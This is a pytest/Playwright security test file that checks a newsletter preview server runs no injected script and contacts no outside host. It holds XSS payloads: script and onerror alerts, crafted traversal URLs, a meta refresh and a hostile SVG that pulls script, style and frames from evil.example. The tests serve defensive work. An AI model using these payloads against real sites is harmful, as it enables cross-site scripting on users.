"""Nothing that content, its errors or templates hold runs in the preview, or makes it ask anybody for anything."""

from __future__ import annotations

import json
import re
import shutil
import socketserver
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from time import monotonic
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import ConsoleMessage, Dialog, Frame, Request

from pipeline import content
from pipeline.errors import PipelineError
from tests.browser import FLAGS, Browser, executable
from tests.folders import ARTICLE, EDITION, NEWSLETTER, REPOSITORY, make, png
from tests.web.serving import SECONDS, Preview, preview

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CLIENTS = ("gmail-app", "outlook-word", "apple-mail-dark", "forced-dark")
READERS = 12
BATCH = 40
MOMENT = 40  # milliseconds in which a payload would have run
VIEWS = (
    "",
    "scheme=dark",
    "images=off",
    "view=text",
    "view=source",
    "view=source&scheme=dark",
    *(f"client={client}" for client in CLIENTS),
    *(f"reader=r{number}" for number in range(READERS)),
)
HELD_BACK = ("csp", "origin")  # what a request that never left the browser says of itself
KNOWN = re.compile(r"/|/(?:static|events|mail|notes|files|pictures|editions|articles)(?:/.*)?")
NOT_RUN = re.compile(r"inline (?:script|event handler)|execut|javascript:|eval", re.I)

# In every frame that runs scripts at all, what a payload would call tells the test; a sandbox would swallow a dialog.
TELL = """for (const name of ["alert", "confirm", "prompt", "print", "msgbox"])
    window[name] = (...all) => { tellTheTest(name) }"""
SETTLE = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 30))))"
# The frame in front shows what was wished for: this page, and every part of this query.
SHOWN = """([page, query]) => {
    const frame = document.querySelector("#device iframe:not([aria-hidden])")
    const address = new URL(frame?.contentWindow?.location ?? "about:blank")
    return address.pathname === `/mail/${page}` && frame.contentDocument.readyState === "complete"
        && [...new URLSearchParams(query)].every(([name, value]) => address.searchParams.get(name) === value)
}"""
GO = """address => { history.pushState(null, "", address); dispatchEvent(new PopStateEvent("popstate")) }"""
FAILED = """() => !document.querySelector("#overlay").hidden && document.querySelector("#errors").textContent"""
FRAMES = """([addresses, sandbox]) => Promise.all(addresses.map(address => new Promise(done => {
    const frame = document.createElement("iframe")
    frame.addEventListener("load", done)
    setTimeout(done, 10_000)
    frame.className = "attack"
    if (sandbox) frame.sandbox = sandbox
    frame.src = address
    document.body.append(frame)
})))"""
PRESS = """() => {
    for (const frame of document.querySelectorAll("iframe.attack")) {
        const inside = frame.contentDocument
        if (!inside) continue
        for (const link of Document.prototype.querySelectorAll.call(inside, "a, area"))
            if (/^(javascript|data|blob|file):/.test(link.href)) link.click?.()
        for (const form of Document.prototype.querySelectorAll.call(inside, "form"))
            HTMLFormElement.prototype.requestSubmit.call(form)
        for (const other of Document.prototype.querySelectorAll.call(inside, "button, input, summary")) other.click()
    }
}"""


def decoded(line: str) -> str:
    def character(found: re.Match[str]) -> str:
        letters = {"n": "\n", "r": "\r", "t": "\t", "\\": "\\"}
        return letters[found[1]] if found[1] else chr(int(found[2], 16))

    return re.sub(r"\\(?:([nrt\\])|(?:x(?=..)|u(?=....))([0-9a-f]{4}|(?<=x)[0-9a-f]{2}))", character, line)


_LINES = Path(__file__).with_name("payloads.txt").read_text(encoding="utf-8").splitlines()
PAYLOADS = [decoded(line) for line in _LINES if not line.startswith(";;")]


class Trap:
    """A server to which every foreign name leads; ``heard`` has the first bytes of each connection to it."""

    def __init__(self, server: socketserver.TCPServer) -> None:
        self.port = server.server_address[1]
        self.heard: list[bytes] = []


class _Ear(socketserver.BaseRequestHandler):
    trap: Trap

    def handle(self) -> None:
        self.request.settimeout(2)
        said = b""
        with suppress(OSError):
            said = self.request.recv(4096)
        self.trap.heard.append(said)
        with suppress(OSError):
            self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")


@contextmanager
def trap_set() -> Iterator[Trap]:
    class Ear(_Ear):
        pass

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Ear) as server:
        server.daemon_threads = True
        trap = Ear.trap = Trap(server)
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield trap
        server.shutdown()


@contextmanager
def unprotected() -> Iterator[str]:
    """The address of a server that shows each payload, by its number, as a page that nothing protects."""

    class Plain(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            name = urlsplit(self.path).path[1:]
            payload = PAYLOADS[int(name)] if name.isdecimal() else ""
            body = f"<!doctype html><meta charset=utf-8><body>{payload}".encode()
            self.send_response(200 if name.isdecimal() or not name else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Plain) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/"
        server.shutdown()


@contextmanager
def chromium_of(browser: Browser, trap: Trap) -> Iterator[Chromium]:
    """Another Chromium beside the tests' own, for which every name but this machine's is the trap's."""
    own = browser.page.context.browser
    assert own
    names = f"MAP *.example 127.0.0.1:{trap.port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
    flags = [flag for flag in FLAGS if "host-resolver" not in flag]
    process = own.browser_type.launch(
        executable_path=executable(), args=[*flags, f"--host-resolver-rules={names}", "--no-sandbox"]
    )
    try:
        yield process
    finally:
        process.close()


class Visitor:
    """A window that looks at a preview and notes what runs in it, what it asks for and where it goes."""

    def __init__(self, process: Chromium, url: str) -> None:
        self.url = url
        self.ran: list[tuple[str, str]] = []
        self.asked: list[Request] = []
        self.complained: list[str] = []
        self.went: list[str] = []
        self.context = process.new_context(viewport={"width": 1280, "height": 800})
        self.context.expose_binding("tellTheTest", lambda source, name: self.ran.append((name, source["frame"].url)))
        self.context.add_init_script(TELL)
        self.context.on("request", lambda request: self.asked.append(request))
        self.context.on("console", self._note)
        self.context.set_default_timeout(SECONDS * 1000)
        self.page = self.context.new_page()
        self.page.on("dialog", self._answer)
        self.page.on("framenavigated", self._go)

    def _answer(self, dialog: Dialog) -> None:
        self.ran.append((dialog.type, dialog.message))
        dialog.dismiss()

    def _note(self, message: ConsoleMessage) -> None:
        self.complained.append(message.text)

    def _go(self, frame: Frame) -> None:
        if frame == self.page.main_frame:
            self.went.append(frame.url)

    def open(self, target: str) -> None:
        """Go to an address of the preview, by itself."""
        self.went.clear()
        self.page.goto(self.url + target, wait_until="load")
        self.page.wait_for_timeout(MOMENT)  # no script of ours would run in a mail, either

    def look(self, page: str, query: str = "") -> None:
        """Go to a page as it is seen so, in the shell that is open, as with the browser's own buttons."""
        self.page.evaluate(GO, f"/{quote(page)}?{query}")
        self.page.wait_for_function(SHOWN, arg=[quote(page), query])
        self.page.evaluate(SETTLE)

    def look_at_errors(self, page: str) -> str:
        """Go to a page that can't be shown; what the overlay says."""
        self.page.evaluate(GO, "/")
        self.page.evaluate(GO, f"/{quote(page, safe='/')}")
        self.page.wait_for_function(FAILED)
        self.page.evaluate(SETTLE)
        return self.page.inner_text("#errors")

    def frames(self, targets: Sequence[str], sandbox: str = "") -> None:
        """Show these addresses in frames of the page that is open, and press all that can be pressed in them."""
        for start in range(0, len(targets), BATCH):
            addresses = [f"/{target}" for target in targets[start : start + BATCH]]
            self.page.evaluate(FRAMES, [addresses, sandbox])
            self.page.evaluate(PRESS)
            self.page.evaluate(SETTLE)
            self.page.evaluate("document.querySelectorAll('.attack').forEach(frame => frame.remove())")

    def strange(self) -> list[str]:
        """What was asked for and isn't an address of the preview's; not what the browser itself has held back."""
        asked = ((request.url, request.failure or "") for request in self.asked)
        return [url for url, failure in asked if not self._is_own(url) and failure not in HELD_BACK]

    def _is_own(self, url: str) -> bool:
        parts = urlsplit(url)
        return url.startswith(self.url) and KNOWN.fullmatch(parts.path) is not None

    def scripts_stopped(self) -> list[str]:
        return [text for text in self.complained if NOT_RUN.search(text)]

    def hear(self, more_than: int) -> None:
        """Wait until so many scripts were stopped: the browser tells of them when it gets to it."""
        end = monotonic() + SECONDS
        while len(self.scripts_stopped()) <= more_than:
            assert monotonic() < end, f"{len(self.scripts_stopped())} scripts were stopped"
            self.page.wait_for_timeout(50)

    def check(self, *, silent: bool = True) -> None:
        """Assert that nothing ran, nobody was asked, and the window is where it was; ``silent``: nor was it tried."""
        assert self.ran == []
        assert self.strange() == []
        assert {page.url for page in self.context.pages} <= {self.page.url, "about:blank", ":"}
        assert all(url.startswith(self.url) for url in self.went)
        assert not silent or self.scripts_stopped() == []


# Where in an article's text a payload can stand.
PLACES = {
    "alone": "{}",
    "in-a-sentence": "word {} word",
    "in-html": "<div>\n{}\n</div>",
    "in-a-heading": "### {}",
    "in-a-cell": "| a | b |\n|---|---|\n| {} | x |",
    "in-a-note": "x^[{}]",
    "in-a-link": "[{}](https://blog.example.com/)",
    "as-a-link": "[x]({})",
    "as-a-links-title": '[x](https://blog.example.com/ "{}")',
    "as-an-alt": "![{}](images/ok.png)",
    "as-a-picture": "![x]({})",
    "as-code": "`{}`",
    "as-a-block-of-code": "```\n{}\n```",
    "as-a-language": "```{}\nx\n```",
    "as-an-attribute": '<p title="{}">x</p>',
    "as-an-address": '<a href="{}">x</a>',
    "as-a-source": '<img src="{}" alt="x">',
    "as-a-fallback": "Hello [[first_name|{}]]",
}
LINES = ("alone", "in-html", "as-a-block-of-code")


@dataclass
class Site:
    """A newsletter of payloads; ``pages`` are those that can be shown, ``broken`` those with errors."""

    folder: Path
    pages: list[str] = field(default_factory=list)
    broken: list[str] = field(default_factory=list)
    rendered: dict[str, int] = field(default_factory=dict)
    refused: dict[str, int] = field(default_factory=dict)


class Sieve:
    """Tells which payloads an article may hold, by rendering an article of each."""

    def __init__(self, folder: Path) -> None:
        self.folder = make(folder, {"content/images/ok.png": png(2, 2)})
        self.library = content.read_library(folder)

    def sift(self, place: str) -> tuple[list[str], list[str], list[str]]:
        """What this place's payloads look like: those that a text may follow, those that swallow it, those refused."""
        fine: list[str] = []
        greedy: list[str] = []
        refused: list[str] = []
        for group in chunks([placed(payload, place) for payload in PAYLOADS], 8):
            if self.followed(group):
                fine += group
                continue
            for text in group:
                followed = self.followed([text])
                (refused if followed is None else fine if followed else greedy).append(text)
        return fine, greedy, refused

    def followed(self, texts: Sequence[str]) -> bool | None:
        """Whether what stands after each of these is still there; None where they are refused."""
        marks = [f"what-follows-{number}-" for number in range(len(texts))]
        try:
            html = self.html("\n\n".join(f"{text}\n\n{mark}" for text, mark in zip(texts, marks, strict=True)))
        except PipelineError:
            return None
        return all(mark in html for mark in marks)

    def html(self, text: str) -> str:
        (self.folder / "content/articles/probe.md").write_text(article("Probe", text), encoding="utf-8")
        self.library = content.reread_library(self.library, ["content/articles/probe.md"])
        probe = self.library.articles["probe"]
        return "".join((probe.intro, *(section.title + section.html for section in probe.sections), probe.notes))


def placed(payload: str, place: str) -> str:
    line = payload if place in LINES else " ".join(payload.splitlines())
    return PLACES[place].replace("{}", line)


def article(title: str, text: str, **fields: Any) -> str:
    lines = [f"{name}: {json.dumps(value)}" for name, value in {"title": title, "date": "2026-11-20", **fields}.items()]
    return "\n".join(["---", *lines, "---", text, ""])


def chunks(all_of_them: Sequence[str], size: int) -> list[Sequence[str]]:
    return [all_of_them[start : start + size] for start in range(0, len(all_of_them), size)]


def bodies(site: Site, sieve: Sieve) -> Iterator[tuple[str, str]]:
    """Articles whose text is payloads: for each place what can be rendered, and what can't, as articles with errors."""
    for place in PLACES:
        fine, greedy, refused = sieve.sift(place)
        site.rendered[place], site.refused[place] = len(fine) + len(greedy), len(refused)
        groups = chunks(fine, PER_ARTICLE)
        ends = [*greedy, *[""] * len(groups)]
        for number, end in enumerate(ends[: max(len(groups), len(greedy))]):
            group = groups[number] if number < len(groups) else []
            site.pages.append(f"articles/{place}-{number}")
            yield f"content/articles/{place}-{number}.md", article(place, "\n\n".join([*group, end]))
        if refused:
            site.broken.append(f"articles/{place}-refused")
            yield f"content/articles/{place}-refused.md", article(place, "\n\n".join(refused))


def speakable() -> list[str]:
    """The payloads that front matter, tables and lists of ours may hold: without merge fields and control signs."""
    return [" ".join(one.split()) for one in PAYLOADS if "[[" not in one and not re.search("[\x00-\x08\x0b-\x1f]", one)]


def fields_of_articles(site: Site) -> Iterator[tuple[str, str]]:
    """Articles with a payload as title, dek, author, tag, alt and as the name of the next one."""
    for number, (title, dek, author, alt) in enumerate(zip(*[iter(speakable())] * 4, strict=False)):
        site.pages.append(f"articles/field-{number}")
        facts = {
            "dek": dek,
            "author": author,
            "tags": [title, dek, author],
            "hero": {"src": "images/ok.png", "alt": alt},
        }
        yield f"content/articles/field-{number}.md", article(title, "A text.\n\n## Part\n\nMore.", **facts)


def editions(site: Site, slugs: Sequence[str]) -> Iterator[tuple[str, str]]:
    """Editions with payloads as subject, preheader, letter and as what their blocks say; they tease the articles."""
    for number, group in enumerate(chunks(speakable(), 8)):
        subject, preheader, letter, *words = [*group, *speakable()[:8]][:8]
        blocks = [
            {"lead": {"article": slugs[number % len(slugs)], "cta": words[0]}},
            "letter",
            {"teasers": {"title": words[1], "columns": 2, "articles": slugs[number * 2 :][:4] or slugs[:2]}},
            {"sections": {"article": slugs[0], "title": words[2], "pick": ["part"]}},
            {"tracks": {"title": words[3], "limit": 12, "minutes": number + 1}},
            {"popular": {"title": words[4], "categories": [{"name": one, "url": "/x/"} for one in words]}},
            {"benefits": {"title": words[0], "items": words}},
            {"promo": {"title": words[1], "text": words[2], "url": "[[share_url]]", "cta": words[3]}},
        ]
        front = {"subject": subject, "preheader": f"{preheader} [[first_name]]", "date": "2026-11-24", "blocks": blocks}
        site.pages.append(f"editions/words-{number}")
        text = f"Hello [[first_name]], [share]([[share_url]]) <a href='https://x.example/?[[first_name]]'>x</a>\n\n`{letter}`\n"
        yield f"content/editions/words-{number}.md", f"---\n{json.dumps(front)}\n---\n{text}"


def mistakes(site: Site) -> Iterator[tuple[str, str]]:
    """Editions and articles whose errors speak payloads, and show lines that hold them."""
    for number, group in enumerate(chunks(speakable(), 50)):
        site.broken.append(f"editions/mistakes-{number}")
        lines = "\n".join(f"  - {json.dumps(one)}: {{}}" for one in group)
        yield f"content/editions/mistakes-{number}.md", f"---\nsubject: x\ndate: 2026-11-24\nblocks:\n{lines}\n---\n"
    for number, group in enumerate(chunks(speakable(), 7)[:20]):
        site.broken.append(f"articles/mistake-{number}")
        around = "\n".join(f"# {one}" for one in group)
        text = f"---\n{around}\ndate: {json.dumps(group[0])}\n{around}\n---\nx\n"
        yield f"content/articles/mistake-{number}.md", text


def names(site: Site) -> Iterator[tuple[str, str]]:
    """Files whose names are payloads, as far as a file system has such names."""
    for name in speakable()[::4]:
        if "/" not in name and len(name.encode()) < 200 and not name.startswith((".", "_", " ")):
            yield f"content/articles/{name}.md", ARTICLE
            yield f"content/editions/{name}.md", EDITION


def tracks() -> str:
    facts = zip(*[iter(speakable())] * 5, strict=False)
    return json.dumps(
        [
            {"title": title, "kind": kind, "minutes": 1 + number, "moods": [mood], "teacher": teacher}
            | {"url": "https://x.example/", "description": description}
            for number, (title, kind, mood, teacher, description) in enumerate(facts)
        ]
    )


def personas() -> str:
    groups = chunks(PAYLOADS, len(PAYLOADS) // READERS + 1)
    return json.dumps(
        {
            f"r{number}": {"name": " ".join(group), "fields": {"first_name": " ".join(group), "share_url": group[-1]}}
            for number, group in enumerate(groups)
        }
    )


def newsletter() -> str:
    """The newsletter's own words, each with every tenth payload in it."""
    said = [json.dumps(" ".join(speakable()[start::10])) for start in range(10)]
    text = NEWSLETTER.replace('"The Quiet Hour"', said[0], 1).replace('"The Quiet Hour"', said[1])
    text = text.replace('"1 Example Street"', said[2]).replace('"You asked for it."', said[3])
    text = text.replace('fallback = "there"', f"fallback = {said[4]}").replace('"Maya Fernando"', said[5])
    return f"""tagline = {said[6]}
{text}
[merge_fields.share_url]
fallback = "https://blog.example.com/share"
type = "url"
[[socials]]
name = {said[7]}
url = "https://x.example/"
[[stores]]
name = {said[8]}
url = "https://x.example/"
[blocks.benefits]
items = [{said[9]}]
"""


PER_ARTICLE = 250


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with trap_set() as trap:
        yield trap


@pytest.fixture(scope="module")
def chromium(browser: Browser, trap: Trap) -> Iterator[Chromium]:
    with chromium_of(browser, trap) as process:
        yield process


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    around = tmp_path_factory.mktemp("hostile")
    site, sieve = Site(around / "site"), Sieve(around / "sieve")
    files: dict[str, str | bytes] = dict(bodies(site, sieve))
    own = dict(fields_of_articles(site))
    slugs = [Path(path).stem for path in own]
    files |= own | dict(editions(site, slugs)) | dict(mistakes(site)) | dict(names(site))
    files |= {
        "content/newsletter.toml": newsletter(),
        "content/tracks.yaml": tracks(),
        "content/personas.yaml": personas(),
        "content/images/ok.png": png(2, 2),
    }
    shutil.copytree(REPOSITORY / "templates", site.folder / "templates")
    make(site.folder, files)
    return site


@pytest.fixture(scope="module")
def served(site: Site) -> Iterator[Preview]:
    with preview(site.folder) as shown:
        yield shown


@pytest.fixture
def visitor(chromium: Chromium, served: Preview, trap: Trap) -> Iterator[Visitor]:
    """A window on the hostile newsletter; at the end nobody may have been asked for anything."""
    visitor = Visitor(chromium, served.url)
    yield visitor
    visitor.context.close()
    assert trap.heard == []


def test_there_are_enough_payloads(site: Site, served: Preview) -> None:
    """There are over 400 different payloads; at each place 200 of them or more are rendered, and the rest refused."""
    assert len(set(PAYLOADS)) == len(PAYLOADS) > 400
    assert all(count >= 200 for count in site.rendered.values()), site.rendered
    assert all(site.rendered[place] + site.refused[place] == len(PAYLOADS) for place in PLACES)
    assert {served.get(f"/mail/{page}").status for page in site.pages} == {200}
    assert {served.get(f"/mail/{page}").status for page in site.broken} == {404}


def test_this_test_would_notice(browser: Browser) -> None:
    """Of every other payload, without protection, fifty run and more ask other servers, and this test sees both."""
    sandbox = "allow-scripts allow-same-origin allow-forms allow-popups allow-modals"
    with trap_set() as trap, unprotected() as url, chromium_of(browser, trap) as process:
        visitor = Visitor(process, url)
        visitor.open("")
        visitor.frames([str(number) for number in range(0, len(PAYLOADS), 2)], sandbox)
        asked = {request.frame.url for request in visitor.asked if ".example" in request.url}
        assert len({address for _, address in visitor.ran}) > 50
        assert len(asked) > 15
        assert trap.heard
        assert {name for name, _ in visitor.ran} >= {"alert", "confirm"}
        visitor.open(str(PAYLOADS.index('<meta http-equiv="refresh" content="0;url=https://evil.example/">')))
        visitor.page.wait_for_timeout(200)
        with pytest.raises(AssertionError):
            visitor.check()


def test_a_dialog_is_noticed(chromium: Chromium) -> None:
    """A dialog that no script of the test has replaced is seen as well."""
    page = chromium.new_page()
    seen: list[str] = []

    def answer(dialog: Dialog) -> None:
        seen.append(dialog.type)
        dialog.dismiss()

    page.on("dialog", answer)
    page.set_content("<img src=x onerror=alert(1)>")
    page.wait_for_timeout(200)
    page.close()
    assert seen == ["alert"]


def test_the_pages_run_nothing(visitor: Visitor, site: Site) -> None:
    """In the shell no payload runs, wherever in a text or in an edition's words it stands."""
    visitor.open(quote(site.pages[0]))
    for page in (*(page for page in site.pages if page.endswith("-0")), *site.pages[4::80]):
        visitor.look(page)
        assert visitor.page.inner_text("#title")
    visitor.check()


def test_every_view_runs_nothing(visitor: Visitor, site: Site) -> None:
    """In the shell no payload runs in any view: dark, without pictures, as text, as source, in each client, as each
    reader."""
    for page in ("articles/alone-0", "editions/words-3"):
        visitor.open(page)
        for view in VIEWS[: 2 - READERS]:
            visitor.look(page, view)
    visitor.check()


def test_the_documents_run_nothing(visitor: Visitor, site: Site) -> None:
    """No mail runs anything in a frame, even when all its links are followed and all its buttons pressed."""
    visitor.open("")
    visitor.frames([f"mail/{page}" for page in site.pages if not re.search("field-[0-9]*[1-9]$", page)])
    visitor.frames([f"mail/{page}?{view}" for page in site.pages[::90] for view in VIEWS])
    visitor.frames([f"files/{page}/digest.html?reader=r{at % READERS}" for at, page in enumerate(site.pages[::10])])
    visitor.check(silent=False)


def test_a_tab_of_its_own_runs_nothing(visitor: Visitor, site: Site) -> None:
    """A mail, its text, its source or its file that is opened in a tab runs nothing there."""
    for number, page in enumerate(site.pages[::15]):
        view = VIEWS[number % len(VIEWS)]
        visitor.open(f"mail/{page}?{view}")
        visitor.open(f"files/{page}/digest.html?reader=r{number % READERS}")
        visitor.open(f"files/{page}/digest.txt")
    visitor.check()


def test_the_lists_run_nothing(visitor: Visitor, site: Site) -> None:
    """The list shows titles, subjects and names of files that are payloads, the choices show readers; nothing runs."""
    visitor.open("")
    visitor.page.wait_for_selector("#entries a")
    shown = visitor.page.inner_text("#entries")
    assert "<script>alert(1)</script>" in shown
    assert "<script>alert(1)</script>" in visitor.page.inner_text("#reader")
    assert visitor.page.locator("#entries a").count() > len(site.pages)
    visitor.check()


def test_the_errors_run_nothing(visitor: Visitor, site: Site) -> None:
    """Errors speak payloads, and the lines around them hold more; the overlay shows them as text."""
    visitor.open("")
    chosen = [page for page in site.broken if "/mistakes-" in page] + site.broken[::8]
    said = "".join(visitor.look_at_errors(page) for page in chosen)
    assert "<script>alert(1)</script>" in said
    assert "<img src=/x onerror=alert(1)>" in said
    assert sum(" ".join(payload.split()) in " ".join(said.split()) for payload in speakable()) > 200
    visitor.check()


def test_the_names_of_files_run_nothing(visitor: Visitor, site: Site) -> None:
    """A file whose name is a payload is told as broken, by its name, and its address shows the same."""
    there = [path.stem for path in sorted((site.folder / "content/editions").iterdir()) if "(1)" in path.stem]
    assert len(there) > 10
    visitor.open("")
    for name in there[::3]:
        assert "file name" in visitor.look_at_errors(f"editions/{name}")
        visitor.open(f"editions/{quote(name, safe='')}")
    visitor.check()


@pytest.mark.parametrize(
    "address",
    [
        "articles/%3Cscript%3Ealert(1)%3C/script%3E",
        "articles/%3Cimg%20src=x%20onerror=alert(1)%3E",
        "articles/javascript:alert(1)",
        "editions/words-1?reader=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "editions/words-1?client=javascript:alert(1)&view=%3Cscript%3E&width=1%22onload=alert(1)",
        "editions/words-1?scheme=%22%3E%3Csvg/onload=alert(1)%3E#<img src=x onerror=alert(1)>",
        "editions/..%2f..%2f..%2f%2fevil.example%2f",
        "articles///evil.example/x",
        "?page=https://evil.example/",
    ],
)
def test_an_address_runs_nothing(visitor: Visitor, address: str) -> None:
    """A link to the preview that somebody has made up shows an error or a page, and runs nothing of the link."""
    visitor.open(address)
    visitor.page.wait_for_timeout(200)
    visitor.check()


BROKEN_TEMPLATE = """\
<mj-section><mj-column><mj-text>
{# <img src=/x onerror=alert(1)> #}
{{ data["<script>alert(1)</script>"] }}
<mj-script-alert onload="alert(1)"><script>alert(1)</script></mj-script-alert>
</mj-text></mj-column></mj-section>
"""


def test_a_broken_template_runs_nothing(visitor: Visitor, site: Site) -> None:
    """A template that breaks while it is open speaks payloads over the last good mail, and is mended again."""
    template = site.folder / "templates/blocks/letter.mjml.j2"
    good = template.read_text()
    visitor.open("editions/words-2")
    visitor.look("editions/words-2")
    try:
        template.write_text(BROKEN_TEMPLATE)
        visitor.page.wait_for_function(FAILED)
        visitor.page.evaluate(SETTLE)
        assert "<script>alert(1)</script>" in visitor.page.inner_text("#errors")
    finally:
        template.write_text(good)
    visitor.page.wait_for_function("() => document.querySelector('#overlay').hidden")
    visitor.check()


RAW = {
    "templates/blocks/raw.mjml.j2": """\
<mj-section><mj-column><mj-text>{{ data["value"] | safe }}</mj-text></mj-column></mj-section>
""",
    "templates/blocks/raw.txt.j2": "x\n",
}
SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
<script>alert(1)</script><script xlink:href="https://evil.example/x.js"/>
<image xlink:href="https://evil.example/x.png"/><style>@import "https://evil.example/x.css";</style>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
</svg>
"""


def hostile(payload: str, trap: Trap) -> str:
    """The payload with the trap's own address in place of the name that leads to it."""
    return payload.replace("https:", "http:").replace("evil.example", f"127.0.0.1:{trap.port}")


@dataclass
class RawSite:
    preview: Preview
    pages: list[str]


@pytest.fixture(scope="module")
def raw(tmp_path_factory: pytest.TempPathFactory, trap: Trap) -> Iterator[RawSite]:
    """A newsletter whose template writes each payload into the mail as it is, one in each edition."""
    folder = tmp_path_factory.mktemp("raw")
    shutil.copytree(REPOSITORY / "templates", folder / "templates")
    payloads = [hostile(payload, trap) for payload in PAYLOADS]
    files = {**RAW, "content/images/hostile.svg": hostile(SVG, trap)}
    for number, payload in enumerate(payloads):
        front = {"subject": "Raw", "date": "2026-11-24", "blocks": [{"raw": payload}]}
        files[f"content/editions/raw-{number}.md"] = f"---\n{json.dumps(front)}\n---\n"
    make(folder, files)
    with preview(folder) as shown:
        pages = [f"editions/raw-{number}" for number in range(len(payloads))]
        yield RawSite(shown, [page for page in pages if shown.get(f"/mail/{page}").status == 200])


@pytest.fixture
def onlooker(chromium: Chromium, raw: RawSite, trap: Trap) -> Iterator[Visitor]:
    """A window on the mails that hostile templates wrote; at the end nobody may have got a request.

    For a frame of another site, which the policy then forbids, Chromium opens a connection ahead and says nothing on
    it. That is why the payloads name the trap's own address: a greeting of TLS would be something.
    """
    visitor = Visitor(chromium, raw.preview.url)
    yield visitor
    visitor.context.close()
    requests = [said for said in trap.heard if said]
    trap.heard.clear()
    assert requests == []


def check_held_back(visitor: Visitor) -> None:
    """Assert that nothing ran; a mail's pictures may be asked for here, wherever they are said to be."""
    visitor.asked = [
        one for one in visitor.asked if one.resource_type != "image" or not one.url.startswith(visitor.url)
    ]
    visitor.check(silent=False)


def test_hostile_templates_run_nothing(onlooker: Visitor, raw: RawSite) -> None:
    """Where a template writes payloads as they are, the sandbox and the policy alone hold back every one."""
    assert len(raw.pages) > 250
    onlooker.open("")
    onlooker.frames([f"mail/{page}" for page in raw.pages])
    onlooker.hear(50)
    check_held_back(onlooker)


def test_hostile_templates_run_nothing_in_the_shell(onlooker: Visitor, raw: RawSite) -> None:
    """A mail that a hostile template wrote is shown, and neither runs anything nor takes the page over."""
    onlooker.open(raw.pages[0])
    clobbering = [f"editions/raw-{number}" for number, payload in enumerate(PAYLOADS) if " name=" in payload]
    for page in sorted({*raw.pages[::30], *clobbering} & set(raw.pages)):
        onlooker.look(page)
    check_held_back(onlooker)


def test_hostile_templates_run_nothing_in_a_tab(onlooker: Visitor, raw: RawSite) -> None:
    """The same mail in a tab of its own stays there, runs nothing and asks nobody."""
    for number, page in enumerate(raw.pages[::10]):
        onlooker.open(f"mail/{page}" if number % 2 else f"files/{page}/digest.html")
    check_held_back(onlooker)


def test_hostile_templates_in_clients(onlooker: Visitor, raw: RawSite) -> None:
    """As a client shows it, without pictures, as text and as source, a hostile template's mail does nothing either."""
    onlooker.open("")
    views = [view for view in VIEWS if not view.startswith("reader")]
    onlooker.frames([f"mail/{page}?{view}" for page in raw.pages[::50] for view in views])
    check_held_back(onlooker)


def test_a_picture_runs_nothing(onlooker: Visitor) -> None:
    """An SVG that is opened by itself or in a frame runs none of its scripts and asks nobody."""
    onlooker.open("")
    onlooker.frames(["pictures/images/hostile.svg"])
    onlooker.open("pictures/images/hostile.svg")
    check_held_back(onlooker)


def test_the_server_asks_nobody(chromium: Chromium, tmp_path: Path) -> None:
    """A server that an article names as picture, link, style sheet and page isn't even connected to."""
    with trap_set() as trap:
        address = f"http://127.0.0.1:{trap.port}"
        text = "\n\n".join(
            [
                *(f"![x]({address}/{number}.png)" for number in range(5)),
                f"[x]({address}/link)",
                f"<{address}/auto>",
                f"<img src='{address}/html.png' srcset='{address}/2x.png 2x'>",
                f"<link rel=stylesheet href={address}/x.css>",
                f"<p style='background:url({address}/style.png)' background={address}/back.png>x</p>",
            ]
        )
        files = {
            "content/articles/asks.md": article(
                "Asks", text, hero=f"{address}/hero.png", canonical_url=f"{address}/page"
            ),
            "content/personas.yaml": f"ana: {{name: Ana, fields: {{first_name: '{address}/name'}}}}",
        }
        with preview(make(tmp_path, files)) as shown:
            assert f"{address}/0.png" in shown.get("/files/articles/asks/digest.html").text
            for client in CLIENTS:
                assert shown.get(f"/notes/articles/asks?client={client}").status == 200
                assert shown.get(f"/mail/articles/asks?client={client}&reader=ana").status == 200
            for name in ("digest.html", "digest.txt", "message.eml"):
                assert shown.get(f"/files/articles/asks/{name}").status == 200
            visitor = Visitor(chromium, shown.url)
            visitor.open("articles/asks")
            for view in ("", "scheme=dark", "images=off", "view=text", "view=source", "client=forced-dark"):
                visitor.look("articles/asks", view)
            visitor.open("mail/articles/asks")
            visitor.open("files/articles/asks/digest.html")
            visitor.page.wait_for_timeout(300)
            visitor.check()
            visitor.context.close()
        assert trap.heard == []


def test_the_servers_are_well(served: Preview, raw: RawSite) -> None:
    """After all of this both servers answer, and neither has had an error of its own."""
    for shown in (served, raw.preview):
        assert shown.get("/").status == 200
        assert shown.said[2:] == [], shown.said[-4:]  # after its address and how to stop it
